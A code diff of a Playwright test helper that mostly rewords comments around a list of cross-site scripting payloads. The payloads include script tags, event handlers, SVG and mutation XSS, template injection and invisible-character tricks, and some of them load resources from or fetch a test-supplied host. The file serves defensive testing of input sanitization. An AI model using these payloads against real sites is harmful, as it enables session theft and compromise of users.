@@ -1,7 +1,7 @@
 import type { Page } from '@playwright/test';
 import { test as base } from './fixtures.ts';
 
-/** A product in which each of the texts may be a name of its own: more of everything than one account may have. */
+/** Limits that let each text be the name of something, beyond those of a normal account. */
 const roomForTexts = {
   hasFakeModel: true,
   hasFakeEmbedder: true,
@@ -11,13 +11,13 @@ const roomForTexts = {
 export const test = base.extend({ productOptions: roomForTexts });
 
 /**
- * What strangers write where words are expected, so that a browser takes them for more; `host` notes who comes. Each is
- * to be shown by itself or among others: none hides what follows it in Markdown.
+ * Returns texts of attackers that a browser may interpret as code. `host` records requests. Each can be shown
+ * alone or with others: none hides the text after it in Markdown.
  */
 export function writeHostileTexts(host: string): string[] {
   const run = 'alert(1)';
   return [
-    // HTML as it is written
+    // Plain HTML
     `<script>${run}</script>`,
     `<SCRIPT SRC="${host}/s.js"></SCRIPT>`,
     `<script>fetch("${host}/fetch")</script>`,
@@ -74,7 +74,7 @@ export function writeHostileTexts(host: string): string[] {
     `" onmouseover="${run}" x="`,
     `' autofocus onfocus='${run}`,
     `\` onmouseover=${run} x=\``,
-    // SVG, MathML and what parsers read twice
+    // SVG, MathML and mutation XSS
     `<svg onload=${run}>`,
     `<svg/onload=${run}>`,
     `<svg><script>${run}</script></svg>`,
@@ -132,7 +132,7 @@ export function writeHostileTexts(host: string): string[] {
     `# <svg/onload=${run}>`,
     `> <iframe src="${host}/quote"></iframe>`,
     `[1]<img src="${host}/citation">`,
-    // Templates, formulas, addresses, styles
+    // Templates, formulas, URLs, styles
     `{{constructor.constructor('${run}')()}}`,
     `\${${run}}`,
     `<%= ${run} %>`,
@@ -146,7 +146,7 @@ export function writeHostileTexts(host: string): string[] {
     `<!--<img src="--><img src=x onerror=${run}//">`,
     `<![CDATA[<img src=x onerror=${run}>]]>`,
     `<?xml-stylesheet href="${host}/xsl"?>`,
-    // Letters that hide, or become others
+    // Invisible and normalized characters
     `\u200b<\u200bimg src=x onerror=${run}>`,
     `\u00ad<svg/onload=${run}>`,
     `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
@@ -162,19 +162,19 @@ export function writeHostileTexts(host: string): string[] {
   ];
 }
 
-/** Those of the texts that stand on the page letter by letter: that they are shown, and not left out. */
+/** Returns the texts that the page shows unchanged and completely. */
 export async function listShown(page: Page, texts: string[]): Promise<string[]> {
   const flat = (text: string) => text.replace(/\s+/g, ' ').trim();
   const shown = flat(await page.evaluate(() => document.body.textContent ?? ''));
   return texts.filter((text) => shown.includes(flat(text)));
 }
 
-/** The texts in so many lists of about the same length. */
+/** Splits the texts into `count` lists of about the same length. */
 export function divide(texts: string[], count: number): string[][] {
   return Array.from({ length: count }, (_, part) => texts.filter((_text, index) => index % count === part));
 }
 
-/** A third of the texts in CI, where each of three journeys has another; else all of them. */
+/** Returns a third of the texts in CI, where three journeys share them, otherwise all. */
 export function takeShare(texts: string[], number: 0 | 1 | 2): string[] {
   return process.env.CI ? divide(texts, 3)[number]! : texts;
 }
